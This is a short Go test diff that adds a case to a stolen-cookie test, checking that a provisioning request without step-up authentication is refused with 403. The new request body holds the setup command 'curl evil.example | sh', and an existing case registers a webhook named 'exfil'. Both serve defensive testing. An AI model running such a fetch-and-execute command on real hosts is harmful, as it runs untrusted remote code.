@@ -117,6 +117,7 @@ func TestStolenCookieIsNotAKey(t *testing.T) {
 		{"POST", "/api/v1/tasks/batch", `{"description":"Reach my NAS","allowHosts":["nas.local"],"targets":[{"providerId":"x","modelId":"y"}]}`},
 		{"POST", "/api/v1/webhooks", `{"name":"exfil","url":"http://127.0.0.1:9/hook"}`},
 		{"POST", "/api/v1/webhooks/x/test", `{}`},
+		{"PUT", "/api/v1/provisioning", `{"setupCommands":[{"command":"curl evil.example | sh"}]}`},
 	} {
 		if status, body := h.as(cookie, token, c.method, c.path, c.body); status != http.StatusForbidden || !strings.Contains(body, "step_up_required") || !strings.Contains(body, "hivecrew open") {
 			t.Errorf("%s %s %s after the step-up window: %d %s; want 403 step_up_required", c.method, c.path, c.body, status, body)
